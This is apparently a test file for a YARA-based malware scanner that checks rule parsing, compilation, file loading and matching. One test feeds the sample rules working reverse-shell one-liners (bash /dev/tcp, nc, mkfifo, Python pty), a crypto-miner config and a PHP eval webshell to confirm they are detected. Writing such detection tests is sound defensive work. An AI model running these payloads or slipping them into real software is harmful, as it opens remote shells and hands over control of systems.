import assert from "node:assert/strict";
import { YaraEngine } from "../../src/scanners/yara/engine.ts";
import { ruleHeaders } from "../../src/scanners/yara/headers.ts";
import { compileRuleSet, readRuleFiles } from "../../src/scanners/yara/rule_files.ts";
import { makeTree } from "../helpers.ts";

const SAMPLE_RULES = new URL("../../rules/yara", import.meta.url).pathname;
const enc = (s: string) => new TextEncoder().encode(s);

Deno.test("ruleHeaders: names, tags, modifiers and lines; comments, strings and regexes are skipped", () => {
  const src = `import "pe"
// rule commented_out : x { condition: true }
/* rule also_not { condition: true }
   spanning lines */
private rule helper { strings: $a = "rule fake : t {" condition: $a }
global private rule g { condition: filesize < 10MB }
rule tagged : APT mal_ware
{
  meta:
    note = "braces { inside } strings"
  strings:
    $r = /a\\{2,\\}\\/rule x {/ nocase
    $h = { 4D 5A ?? [2-4] ( 90 | 91 ) }
  condition:
    helper and $r and $h and pe.exports(/rule y {/) and filesize / 2 > 10
}
rule last{condition:true}`;
  assert.deepEqual(ruleHeaders(src), [
    { name: "helper", tags: [], private: true, global: false, line: 5 },
    { name: "g", tags: [], private: true, global: true, line: 6 },
    { name: "tagged", tags: ["APT", "mal_ware"], private: false, global: false, line: 7 },
    { name: "last", tags: [], private: false, global: false, line: 17 },
  ]);
});

Deno.test("ruleHeaders: empty, garbage and truncated input never throw", () => {
  assert.deepEqual(ruleHeaders(""), []);
  assert.deepEqual(ruleHeaders("\x00\xff}}}{{{ /* unterminated"), []);
  assert.deepEqual(ruleHeaders('rule cut : a b { strings: $a = "unterminated'), [
    { name: "cut", tags: ["a", "b"], private: false, global: false, line: 1 },
  ]);
});

Deno.test("engine: real YARA semantics (text modifiers, hex jumps, regex, counts, offsets, integers, filesize)", async () => {
  const engine = await YaraEngine.load();
  const rules = `
rule text_nocase_wide : t1 { meta: author = "ir" score = 7 strings: $a = "EvIl" nocase wide ascii condition: $a }
rule hex_jump { strings: $h = { 7F 45 4C 46 [4-8] 41 ?? 43 } condition: $h at 0 }
rule regex_count { strings: $r = /x[0-9]{2}y/ condition: #r == 2 }
rule ints { condition: uint8(0) == 0x7f and uint16be(1) == 0x454c and uint32(0) == 0x464c457f }
rule size_and_of { strings: $p = "AAA" $q = "ZZZ" condition: filesize < 100 and 1 of them and not $q }
rule never { strings: $n = "absent" condition: $n }`;
  const data = enc("\x7fELF\x01\x02\x03\x04\x05A-C x12y e\0v\0i\0l\0 x34y AAA");
  const r = engine.run(data, rules);
  assert.deepEqual(r.diagnostics.filter((d) => !d.warning), []);
  assert.deepEqual(r.matches.map((m) => m.rule), [
    "text_nocase_wide",
    "hex_jump",
    "regex_count",
    "ints",
    "size_and_of",
  ]);
  assert.deepEqual(r.matches[0].meta, [{ key: "author", value: "ir" }, { key: "score", value: "7" }]);
  assert.deepEqual(r.matches[0].strings, [{ identifier: "$a", offset: 18, length: 8 }]);
  assert.deepEqual(r.matches[2].strings.map((s) => s.offset), [13, 27]);
});

Deno.test("engine: garbage and empty data scan without matches; bad rules come back as diagnostics", async () => {
  const engine = await YaraEngine.load();
  const random = new Uint8Array(64 << 10);
  crypto.getRandomValues(random);
  assert.deepEqual(
    engine.run(random, 'rule r { strings: $a = "needle-not-there" condition: $a }').matches,
    [],
  );
  assert.deepEqual(
    engine.run(new Uint8Array(0), "rule r { condition: filesize == 0 }").matches.map((m) => m.rule),
    ["r"],
  );
  const d = engine.compile("rule ok { condition: true }\nrule bad { condition: $missing }");
  assert.equal(d.length, 1);
  assert.equal(d[0].line, 2);
  assert.equal(d[0].warning, false);
  assert.match(d[0].message, /undefined string/);
});

Deno.test("readRuleFiles: a file, a directory (sorted, other files ignored), and clear errors", () => {
  using t = makeTree({
    "rules/b.yara": "rule b { condition: true }\n",
    "rules/a.yar": "rule a { condition: true }\n",
    "rules/readme.txt": "not rules\n",
    "rules/.hidden.yar": "rule hidden { condition: true }\n",
    "empty/x.txt": "",
    "single.yar": "rule s { condition: true }\n",
  });
  const dir = readRuleFiles(`${t.path}/rules`, false);
  assert.deepEqual(dir.errors, []);
  assert.deepEqual(dir.files.map((f) => f.path.slice(t.path.length)), ["/rules/a.yar", "/rules/b.yara"]);
  assert.deepEqual(readRuleFiles(`${t.path}/single.yar`, false).files.length, 1);
  assert.match(readRuleFiles(`${t.path}/nope`, false).errors[0], /does not exist/);
  assert.match(readRuleFiles(`${t.path}/empty`, false).errors[0], /no \*\.yar or \*\.yara files/);
});

Deno.test("readRuleFiles: a rule file writable by others is refused unless --rules-insecure-ok", () => {
  using t = makeTree({ "open.yar": { content: "rule o { condition: true }\n", mode: 0o666 } });
  const refused = readRuleFiles(`${t.path}/open.yar`, false);
  assert.equal(refused.files.length, 0);
  assert.match(refused.errors[0], /writable by group and others.*--rules-insecure-ok/);
  const accepted = readRuleFiles(`${t.path}/open.yar`, true);
  assert.equal(accepted.files.length, 1);
  assert.match(accepted.warnings[0], /accepted because of --rules-insecure-ok/);
});

Deno.test("compileRuleSet: errors name the file and line; duplicates across files are caught", async () => {
  const engine = await YaraEngine.load();
  const good = { path: "/r/good.yar", text: "rule one : t { condition: true }\n" };
  const bad = { path: "/r/bad.yar", text: 'rule two {\n  strings:\n    $a = "x"\n  condition:\n    $b\n}\n' };
  const broken = compileRuleSet(engine, [good, bad]);
  assert.ok("errors" in broken);
  // libyara reports the line where the parser noticed: the end of the condition.
  assert.deepEqual(broken.errors, ['/r/bad.yar:6: undefined string "$b"']);
  const syntax = compileRuleSet(engine, [{ path: "/r/syntax.yar", text: "rule {\n" }]);
  assert.ok("errors" in syntax);
  assert.match(syntax.errors[0], /^\/r\/syntax\.yar:1: syntax error/);
  const dup = compileRuleSet(engine, [good, {
    path: "/r/dup.yar",
    text: "\n\nrule one { condition: false }\n",
  }]);
  assert.ok("errors" in dup);
  assert.match(dup.errors[0], /^\/r\/dup\.yar:3: duplicated identifier "one"/);
  const set = compileRuleSet(engine, [good, {
    path: "/r/w.yar",
    text: 'rule w { strings: $a = "a" condition: $a }',
  }]);
  assert.ok(!("errors" in set));
  assert.deepEqual([...set.headers.keys()], ["one", "w"]);
  assert.deepEqual(set.headers.get("one")?.tags, ["t"]);
  assert.match(set.warnings[0], /^\/r\/w\.yar:1: .*slow down scanning/);
});

Deno.test("the shipped sample rules compile, catch real artefacts and leave ordinary programs alone", async () => {
  const engine = await YaraEngine.load();
  const read = readRuleFiles(SAMPLE_RULES, false);
  assert.deepEqual(read.errors, []);
  const set = compileRuleSet(engine, read.files);
  assert.ok(!("errors" in set), JSON.stringify(set));
  const hit = (text: string) => engine.run(enc(text), set.source).matches.map((m) => m.rule);
  assert.deepEqual(hit("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), ["reverse_shell_oneliner"]);
  assert.deepEqual(hit("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"), [
    "reverse_shell_oneliner",
  ]);
  assert.deepEqual(hit("nc -nv -e /bin/bash 10.0.0.1 4444"), ["reverse_shell_oneliner"]);
  assert.deepEqual(
    hit(
      `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);` +
        `s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);import pty; pty.spawn("/bin/sh")'`,
    ),
    ["reverse_shell_oneliner"],
  );
  assert.deepEqual(hit('{"donate-level": 1, "pools": [{"url": "pool.example.net:3333", "algo": "rx/0"}]}'), [
    "xmrig_miner_config",
  ]);
  assert.deepEqual(hit("<?php @eval(base64_decode($_POST['x'])); ?>"), ["php_webshell_eval_input"]);
  assert.deepEqual(hit("echo 'use /dev/tcp for bash redirection'; bash -i"), []);
  assert.deepEqual(hit('{"pools": "swimming", "donate-level": "none"}'), []);
  for (const bin of ["/usr/bin/ls", "/usr/bin/bash", "/usr/bin/nc.openbsd", "/usr/bin/python3"]) {
    let data: Uint8Array;
    try {
      data = Deno.readFileSync(bin);
    } catch {
      continue;
    }
    assert.deepEqual(engine.run(data, set.source).matches, [], bin);
  }
});

Deno.test("engine: hundreds of runs stay correct and within memory (libyara-wasm leaks; the engine resets it)", async () => {
  const engine = await YaraEngine.load();
  const rules = 'rule hit { strings: $a = "needle" condition: $a }';
  const hit = enc("a needle here");
  const miss = new Uint8Array(4096);
  for (let i = 0; i < 400; i++) {
    const r = engine.run(i % 2 === 0 ? hit : miss, rules);
    assert.equal(r.matches.length, i % 2 === 0 ? 1 : 0, `run ${i}`);
  }
});
